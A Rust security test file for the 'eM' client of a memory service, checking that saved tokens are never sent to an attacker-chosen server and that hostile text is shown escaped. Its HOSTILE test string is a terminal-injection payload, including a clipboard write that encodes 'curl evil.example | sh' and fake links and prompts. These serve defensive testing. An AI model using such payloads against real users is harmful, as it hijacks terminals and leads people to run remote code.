//! Attacks on the person at the terminal, tried against the real `eM`:
//! a flag or variable (say, from a directory's `.envrc`) pointing eM at a
//! server that collects tokens, and memories written to take over the
//! terminal that shows them.

#![allow(clippy::unwrap_used)]

mod support;

use std::sync::Arc;

use parking_lot::Mutex;

use chrono::{Duration, Utc};
use ninaivalaigal::auth_v1::RefreshRequest;
use ninaivalaigal_tests::spawn_pair;
use serde_json::{Value, json};
use support::{Em, Outcome, PASSWORD, age_saved_token, code, dead_url, expired_token};
use tonic::{
    Code, Request, Status,
    service::{InterceptorLayer, Routes},
    transport::{Server, server::TcpIncoming},
};

/// Clipboard write (OSC 52), hyperlink (OSC 8), clear screen, cursor home,
/// a C1 CSI, DEL, a right-to-left override and an isolate, a carriage
/// return and a fake second line.
const HOSTILE: &str = "ok\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}\u{1b}]8;;http://evil.example\u{1b}\\click\u{1b}]8;;\u{1b}\\\u{1b}[2J\u{1b}[H\u{9b}31m\u{7f}\u{202e}txt.exe\u{2066}x\u{2069}\rfake\nhint: run evil";

/// A character a terminal would act on (a line break aside), if any.
fn raw_control(text: &str) -> Option<char> {
    text.chars().find(|&c| {
        c != '\n'
            && (c.is_control()
                || ('\u{202a}'..='\u{202e}').contains(&c)
                || ('\u{2066}'..='\u{2069}').contains(&c))
    })
}

fn assert_inert(outcome: &Outcome, what: &str) {
    for (stream, text) in [("stdout", &outcome.stdout), ("stderr", &outcome.stderr)] {
        if let Some(c) = raw_control(text) {
            panic!("{what}: raw U+{:04X} on {stream}: {text:?}", u32::from(c));
        }
    }
}

/// A gRPC server standing in for the attacker: it records the
/// `authorization` header of every request it receives, whatever the
/// service or method, and refuses them all with a hostile message.
struct Trap {
    url: String,
    seen: Arc<Mutex<Vec<Option<String>>>>,
}

impl Trap {
    async fn start() -> Self {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        let seen = Arc::new(Mutex::new(Vec::new()));
        let record = seen.clone();
        let server = Server::builder()
            .layer(InterceptorLayer::new(move |request: Request<()>| {
                let authorization = request
                    .metadata()
                    .get("authorization")
                    .map(|value| value.to_str().unwrap_or("(not ASCII)").to_owned());
                record.lock().push(authorization);
                Err(Status::unauthenticated(HOSTILE))
            }))
            .add_routes(Routes::default())
            .serve_with_incoming(TcpIncoming::from(listener));
        tokio::spawn(server);
        Self { url, seen }
    }

    fn seen(&self) -> Vec<Option<String>> {
        self.seen.lock().clone()
    }

    fn assert_untouched(&self, attack: &str) {
        let seen = self.seen();
        assert!(seen.is_empty(), "{attack}: the trap received {seen:?}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_saved_login_is_never_sent_to_another_server() {
    let pair = spawn_pair().await;
    let trap = Trap::start().await;
    let mut em = Em::new(&pair);
    em.register("ada@example.com", PASSWORD).await.ok();
    let saved = em.credentials();

    // A flag naming another auth-service.
    let flagged = em.run(&["--auth-url", &trap.url, "whoami"]).await;
    trap.assert_untouched("--auth-url");
    flagged.expect_code(code::AUTH);
    assert!(
        flagged.stderr.contains(&format!(
            "your saved login is for the auth-service at {}; refusing to send it to {}",
            pair.auth_url(),
            trap.url
        )),
        "{}",
        flagged.stderr
    );
    assert!(
        flagged
            .stderr
            .contains(&format!("run `eM login --auth-url {}`", trap.url)),
        "{}",
        flagged.stderr
    );

    // The variable (as a malicious .envrc sets it) while the access token
    // needs a refresh: the refresh token stays home too.
    age_saved_token(
        &em,
        expired_token(&saved),
        Utc::now() - Duration::minutes(1),
    );
    em.auth_url = trap.url.clone();
    let refresh = em.run(&["contexts"]).await;
    trap.assert_untouched("NINAIVALAIGAL_AUTH_URL, refresh");
    refresh.expect_code(code::AUTH);
    let json = em.run(&["whoami", "--json"]).await;
    trap.assert_untouched("NINAIVALAIGAL_AUTH_URL, whoami");
    json.expect_code(code::AUTH);
    assert!(json.stdout.is_empty());
    let error: Value = serde_json::from_str(&json.stderr).expect("one JSON error");
    assert_eq!(error["error"]["kind"], "authentication");

    // Another memory-service.
    em.auth_url = pair.auth_url();
    em.server_url = trap.url.clone();
    let memory = em.run(&["contexts"]).await;
    trap.assert_untouched("NINAIVALAIGAL_SERVER_URL");
    memory.expect_code(code::AUTH);
    assert!(
        memory.stderr.contains(&format!(
            "your saved login is for the memory-service at {}",
            pair.memory_url()
        )),
        "{}",
        memory.stderr
    );

    assert_eq!(
        em.credentials()["refresh_token"],
        saved["refresh_token"],
        "nothing was refreshed"
    );

    // Other spellings of the same URLs are the same servers.
    em.server_url = format!("{}/", pair.memory_url());
    em.auth_url = format!("{}/", pair.auth_url());
    em.run(&["contexts"]).await.ok();

    // A token the user hands over explicitly goes where the user points it;
    // this is also what the trap shows when eM does send something. The
    // trap's message comes back escaped.
    let mut explicit = Em::with_urls(pair.memory_url(), trap.url.clone());
    explicit.user_token = Some("users-own-token".to_owned());
    let sent = explicit.run(&["whoami"]).await;
    sent.expect_code(code::AUTH);
    assert_inert(&sent, "a server's message");
    assert!(sent.stderr.contains("ok\\u{1b}]52;c;"), "{}", sent.stderr);
    assert_eq!(trap.seen(), vec![Some("Bearer users-own-token".to_owned())]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn logout_ends_the_session_where_it_was_issued() {
    let pair = spawn_pair().await;
    let trap = Trap::start().await;
    let mut em = Em::new(&pair);
    em.register("bob@example.com", PASSWORD).await.ok();
    let saved = em.credentials();

    em.auth_url = trap.url.clone();
    let logout = em.run(&["logout", "--json"]).await;
    trap.assert_untouched("logout");
    logout.ok();
    assert_eq!(logout.json()["revoked"], true);
    assert_eq!(logout.json()["credentials_removed"], true);
    assert!(!em.credentials_path().exists());

    // The real auth-service ended the session: its refresh token is dead.
    let refused = pair
        .auth_client()
        .await
        .refresh(RefreshRequest {
            refresh_token: saved["refresh_token"].as_str().unwrap().to_owned(),
        })
        .await
        .expect_err("the old refresh token is refused");
    assert_eq!(refused.code(), Code::Unauthenticated, "{refused:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn logout_keeps_the_login_while_its_auth_service_cannot_be_reached() {
    let pair = spawn_pair().await;
    let em = Em::new(&pair);
    em.register("cyd@example.com", PASSWORD).await.ok();
    let mut saved = em.credentials();
    let issuer = dead_url();
    saved["auth_url"] = json!(issuer);
    em.write_credentials(&saved);

    // Not ended, so not deleted: a later `eM logout` can still end it.
    let down = em.run(&["logout"]).await;
    down.expect_code(code::UNAVAILABLE);
    assert!(
        down.stderr.contains("the saved login is kept") && down.stderr.contains(&issuer),
        "{}",
        down.stderr
    );
    assert!(down.stderr.contains("eM logout --local"), "{}", down.stderr);
    assert!(em.credentials_path().exists());

    let local = em.run(&["logout", "--local"]).await;
    local.ok();
    assert!(
        local.stdout.contains("without ending its session"),
        "{}",
        local.stdout
    );
    assert!(!em.credentials_path().exists());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn plain_http_to_another_machine_is_warned_about_once() {
    let em = Em::with_urls(
        "http://em.invalid:13370".to_owned(),
        "http://EM.invalid:13371/".to_owned(),
    );
    // Not logged in: the warning comes before any connection is tried.
    let text = em.run(&["whoami"]).await;
    text.expect_code(code::AUTH);
    assert_eq!(
        text.stderr.matches("warning:").count(),
        1,
        "{}",
        text.stderr
    );
    assert!(
        text.stderr.contains(
            "warning: http://em.invalid:13370 and http://EM.invalid:13371 are plain http://"
        ),
        "{}",
        text.stderr
    );

    let json = em.run(&["whoami", "--json"]).await;
    json.expect_code(code::AUTH);
    assert!(json.stdout.is_empty(), "{}", json.stdout);
    let (first, rest) = json.stderr.split_once('\n').unwrap();
    let warning: Value = serde_json::from_str(first).expect("a one-line JSON warning");
    assert!(
        warning["warning"]["message"]
            .as_str()
            .unwrap()
            .contains("cleartext")
    );
    let error: Value = serde_json::from_str(rest).expect("then the JSON error");
    assert_eq!(error["error"]["kind"], "authentication");

    for (server, auth) in [
        ("http://127.0.0.1:13370", "http://localhost:13371"),
        ("https://em.invalid", "https://em.invalid:8443"),
    ] {
        let quiet = Em::with_urls(server.to_owned(), auth.to_owned());
        let outcome = quiet.run(&["whoami"]).await;
        assert!(!outcome.stderr.contains("warning"), "{}", outcome.stderr);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_text_reaches_the_terminal_escaped_and_json_exactly() {
    let pair = spawn_pair().await;
    let em = Em::new(&pair);
    em.register("dee@example.com", PASSWORD).await.ok();

    let created = em
        .run(&["context", "create", "proj", "--description", HOSTILE])
        .await;
    created.ok();
    assert_inert(&created, "context create");
    let started = em.run(&["start", "--context", "proj"]).await;
    started.ok();
    assert_inert(&started, "start");

    // Types may not hold control characters, but bidi overrides pass.
    let kind = "note\u{202e}txt.exe";
    let lone = json!({"type": kind, "data": {"message": HOSTILE}});
    let remembered = em.run(&["remember", &lone.to_string()]).await;
    remembered.ok();
    assert_inert(&remembered, "remember");
    assert!(
        remembered.stdout.contains("note\\u{202e}txt.exe"),
        "{}",
        remembered.stdout
    );
    let mixed = json!({"type": "note", "data": {HOSTILE: [HOSTILE, 1], "n": HOSTILE}});
    em.run_with_input(&["remember"], &mixed.to_string())
        .await
        .ok();

    for args in [
        &["recall"][..],
        &["recall", "--all-contexts", "--type", kind],
        &["contexts"],
        &["context", "show", "proj"],
    ] {
        let shown = em.run(args).await;
        shown.ok();
        assert_inert(&shown, &args.join(" "));
        assert!(
            shown.stdout.contains("ok\\u{1b}]52;c;"),
            "{args:?} shows the escape: {}",
            shown.stdout
        );
    }

    // --json: the same data, exactly, with no raw control on stdout either
    // (JSON's own \u escapes).
    let recalled = em.run(&["recall", "--json"]).await;
    recalled.ok();
    assert_inert(&recalled, "recall --json");
    let memories = recalled.json()["memories"].clone();
    assert_eq!(memories[0]["data"], mixed["data"], "{memories}");
    assert_eq!(memories[1]["data"], lone["data"]);
    assert_eq!(memories[1]["type"], kind);
    let shown = em.run(&["context", "show", "proj", "--json"]).await;
    shown.ok();
    assert_inert(&shown, "context show --json");
    assert_eq!(shown.json()["description"], HOSTILE);
    let stopped = em.run(&["stop"]).await;
    stopped.ok();
    assert_inert(&stopped, "stop");
}
